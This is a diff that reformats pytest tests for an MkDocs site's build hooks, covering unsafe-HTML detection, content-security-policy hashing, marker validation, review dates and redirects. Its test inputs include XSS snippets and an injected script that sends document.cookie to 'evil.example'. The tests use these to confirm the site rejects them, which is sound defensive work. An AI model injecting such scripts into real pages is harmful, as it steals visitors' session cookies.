@@ -20,13 +20,17 @@ load_all()
 
 # -- 1. unsafe HTML in the rendered page, and a policy that hashes only known scripts -----
 
-@pytest.mark.parametrize("snippet,what", [
-    ("<script>alert(1)</script>", "a <script> element"),
-    ('<iframe src="https://example.com"></iframe>', "an <iframe> element"),
-    ('<span onclick="steal()">x</span>', "an inline event handler"),
-    ('<a href="javascript:alert(1)">x</a>', "a javascript: link"),
-    ('<form action="https://example.com"></form>', "an <object>, <embed> or <form> element"),
-])
+
+@pytest.mark.parametrize(
+    "snippet,what",
+    [
+        ("<script>alert(1)</script>", "a <script> element"),
+        ('<iframe src="https://example.com"></iframe>', "an <iframe> element"),
+        ('<span onclick="steal()">x</span>', "an inline event handler"),
+        ('<a href="javascript:alert(1)">x</a>', "a javascript: link"),
+        ('<form action="https://example.com"></form>', "an <object>, <embed> or <form> element"),
+    ],
+)
 def test_unsafe_html_in_rendered_page_is_reported(snippet, what):
     """Rendered HTML holds what the page's Markdown does not show: includes, data cells."""
     hooks.pages.on_pre_build(None)
@@ -38,8 +42,10 @@ def test_unsafe_html_in_rendered_page_is_reported(snippet, what):
 def test_code_that_shows_unsafe_html_is_fine():
     hooks.pages.on_pre_build(None)
     with problems() as found:
-        hooks.pages.check_html("<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
-                               "docs/about/disclaimer.md")
+        hooks.pages.check_html(
+            "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
+            "docs/about/disclaimer.md",
+        )
     assert not found.messages
 
 
@@ -55,7 +61,7 @@ def test_unsafe_html_in_an_include_names_the_include(tmp_path, monkeypatch):
         for src in ("docs/a.md", "docs/b.md"):
             hooks.pages.check_html("<p>x</p><script>alert(1)</script>", src)
     assert found.text.count("includes/urgent-help.md:4 (shown on docs/a.md): unsafe HTML") == 1
-    assert "docs/b.md" not in found.text   # one report per include line, not one per page
+    assert "docs/b.md" not in found.text  # one report per include line, not one per page
 
 
 def test_the_policy_hashes_only_the_sites_own_scripts(site):
@@ -63,11 +69,16 @@ def test_the_policy_hashes_only_the_sites_own_scripts(site):
     with problems() as found:
         own, _ = hooks.csp.hashes(html, "docs/about/disclaimer.md")
     assert not found.messages and len(own) >= 3
-    bad = html.replace("</body>", "<script>fetch('https://evil.example/'+document.cookie)</script></body>")
+    bad = html.replace(
+        "</body>", "<script>fetch('https://evil.example/'+document.cookie)</script></body>"
+    )
     with problems() as found:
         scripts, _ = hooks.csp.hashes(bad, "docs/about/disclaimer.md")
     assert scripts == own, "an unknown inline script must never be hashed into the policy"
-    assert "docs/about/disclaimer.md: the page has an inline script that is not one of the site's own" in found.text
+    assert (
+        "docs/about/disclaimer.md: the page has an inline script that is not one of the site's own"
+        in found.text
+    )
 
 
 def test_every_built_page_has_only_known_inline_scripts(site):
@@ -79,13 +90,17 @@ def test_every_built_page_has_only_known_inline_scripts(site):
 
 # -- 2. one marker registry: a mistyped marker fails with file and line -------------------
 
-@pytest.mark.parametrize("marker,expected", [
-    ("<!-- generated: evidence-tabel -->", "did you mean '<!-- generated: evidence-table -->'"),
-    ("<!-- chart: evidence-chrt -->", "did you mean '<!-- chart: evidence-chart -->'"),
-    ("<!-- figure: no-such-figure -->", "unknown marker"),
-    ("<!-- option-figure: no-such-trial -->", "unknown marker"),
-    ("<!-- genrated: glossary -->", "unknown marker kind"),
-])
+
+@pytest.mark.parametrize(
+    "marker,expected",
+    [
+        ("<!-- generated: evidence-tabel -->", "did you mean '<!-- generated: evidence-table -->'"),
+        ("<!-- chart: evidence-chrt -->", "did you mean '<!-- chart: evidence-chart -->'"),
+        ("<!-- figure: no-such-figure -->", "unknown marker"),
+        ("<!-- option-figure: no-such-trial -->", "unknown marker"),
+        ("<!-- genrated: glossary -->", "unknown marker kind"),
+    ],
+)
 def test_unknown_marker_fails_with_file_and_line(marker, expected):
     text = "# Title\n\nSome words.\n\n" + marker + "\n"
     with problems() as found:
@@ -109,15 +124,18 @@ def test_markers_in_code_and_ordinary_comments_are_left_alone():
 
 def test_hooks_register_their_markers_into_one_registry():
     kinds = hooks.markers.registry
-    assert {"evidence-table", "routes-table", "glossary", "all-sources", "option-grid"} <= kinds["generated"].names
+    assert {"evidence-table", "routes-table", "glossary", "all-sources", "option-grid"} <= kinds[
+        "generated"
+    ].names
     assert "elektd-ketamine" in kinds["figure"].all_names()
     assert {"routes-chart", "evidence-chart"} <= kinds["chart"].names
 
 
 # -- 3. the review calendar never fails the build; an editor's date mistakes still do ----
 
+
 def test_overdue_page_is_a_notice_not_a_failure(monkeypatch):
-    monkeypatch.setenv("REVIEW_TODAY", "2031-06-01")   # years past every next_review
+    monkeypatch.setenv("REVIEW_TODAY", "2031-06-01")  # years past every next_review
     p = page("about/disclaimer.md")
     with problems() as found:
         hooks.pages.on_page_markdown(p.markdown, p, None, _Files())
@@ -125,11 +143,14 @@ def test_overdue_page_is_a_notice_not_a_failure(monkeypatch):
     assert p.meta["review"]["overdue_days"] > 365
 
 
-@pytest.mark.parametrize("last,nxt,expected", [
-    ("2026-11-28", "2026-11-01", "next_review must come after last_reviewed"),
-    ("2026-11-28", "2029-01-01", "more than two years after last_reviewed"),
-    ("2099-01-01", "2099-06-01", "last_reviewed is in the future"),
-])
+@pytest.mark.parametrize(
+    "last,nxt,expected",
+    [
+        ("2026-11-28", "2026-11-01", "next_review must come after last_reviewed"),
+        ("2026-11-28", "2029-01-01", "more than two years after last_reviewed"),
+        ("2099-01-01", "2099-06-01", "last_reviewed is in the future"),
+    ],
+)
 def test_an_editors_own_date_mistake_still_fails(last, nxt, expected):
     src = (ROOT / "docs" / "about" / "disclaimer.md").read_text(encoding="utf-8")
     src = re.sub(r"last_reviewed: .*", f"last_reviewed: {last}", src)
@@ -151,10 +172,16 @@ def test_overdue_tool_lists_the_overdue_pages(capsys):
 
 # -- 7. portable dates; 8. no global YAML patch, no hook imported twice --------------------
 
+
 def test_dates_are_written_without_platform_specific_directives():
     assert hooks.common.long_date(dt.date(2026, 12, 4)) == "4 December 2026"
-    for path in [*(ROOT / "overrides").rglob("*.html"), *(ROOT / "overrides" / "hooks").glob("*.py")]:
-        assert "%-d" not in path.read_text(encoding="utf-8"), f"{path}: '%-d' fails on Windows; use long_date()"
+    for path in [
+        *(ROOT / "overrides").rglob("*.html"),
+        *(ROOT / "overrides" / "hooks").glob("*.py"),
+    ]:
+        assert "%-d" not in path.read_text(encoding="utf-8"), (
+            f"{path}: '%-d' fails on Windows; use long_date()"
+        )
 
 
 def test_importing_the_hooks_leaves_pyyaml_untouched():
@@ -172,9 +199,11 @@ def test_each_hook_runs_once_per_build():
     it twice, with two separate sets of state."""
     import subprocess
 
-    code = ("import sys, collections; from mkdocs.config import load_config; load_config('mkdocs.yml');"
-            "c = collections.Counter(getattr(m, '__file__', None) for m in set(sys.modules.values()));"
-            "print([f for f, n in c.items() if f and 'overrides/hooks' in f and n > 1])")
+    code = (
+        "import sys, collections; from mkdocs.config import load_config; load_config('mkdocs.yml');"
+        "c = collections.Counter(getattr(m, '__file__', None) for m in set(sys.modules.values()));"
+        "print([f for f, n in c.items() if f and 'overrides/hooks' in f and n > 1])"
+    )
     run = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True)
     assert run.stdout.strip() == "[]", run.stdout + run.stderr[-2000:]
 
@@ -188,6 +217,7 @@ class _Files:
 
 # -- B. published addresses never silently disappear ---------------------------------------
 
+
 def test_url_of_matches_mkdocs():
     url_of = hooks.urls.url_of
     assert url_of("index.md") == "/" and url_of("about/index.md") == "/about/"
@@ -199,9 +229,15 @@ def test_a_renamed_page_without_a_redirect_fails_naming_the_old_address():
     renamed = {"/": "index.md", "/about/legal/": "about/legal.md"}
     with problems() as found:
         hooks.urls.check(renamed, set(), listed)
-    assert "data/urls.txt:3: the published address /about/disclaimer/ is no longer a page" in found.text
+    assert (
+        "data/urls.txt:3: the published address /about/disclaimer/ is no longer a page"
+        in found.text
+    )
     assert "redirect_maps, as 'about/disclaimer.md': 'new/place.md'" in found.text
-    assert "docs/about/legal.md: the page's address /about/legal/ is not in data/urls.txt" in found.text
+    assert (
+        "docs/about/legal.md: the page's address /about/legal/ is not in data/urls.txt"
+        in found.text
+    )
     assert "run `make urls`" in found.text
     # With the redirect and the refreshed list, nothing is reported.
     with problems() as found:
@@ -212,8 +248,12 @@ def test_a_renamed_page_without_a_redirect_fails_naming_the_old_address():
 def test_the_committed_list_matches_the_pages():
     from mkdocs.structure.files import File, Files
 
-    files = Files([File(p.relative_to(ROOT / "docs").as_posix(), str(ROOT / "docs"), "/x", True)
-                   for p in (ROOT / "docs").rglob("*.md")])
+    files = Files(
+        [
+            File(p.relative_to(ROOT / "docs").as_posix(), str(ROOT / "docs"), "/x", True)
+            for p in (ROOT / "docs").rglob("*.md")
+        ]
+    )
     with problems() as found:
         hooks.urls.on_files(files, {"plugins": {}})
     assert not found.messages, found.text
@@ -221,6 +261,15 @@ def test_the_committed_list_matches_the_pages():
 
 def test_redirect_sources_read_the_redirects_plugin():
     class Plugin:
-        config = {"redirect_maps": {"about/old-name.md": "about/disclaimer.md", "old/index.md": "index.md"}}
+        def __init__(self):
+            self.config = {
+                "redirect_maps": {
+                    "about/old-name.md": "about/disclaimer.md",
+                    "old/index.md": "index.md",
+                }
+            }
 
-    assert hooks.urls.redirect_sources({"plugins": {"redirects": Plugin()}}) == {"/about/old-name/", "/old/"}
+    assert hooks.urls.redirect_sources({"plugins": {"redirects": Plugin()}}) == {
+        "/about/old-name/",
+        "/old/",
+    }
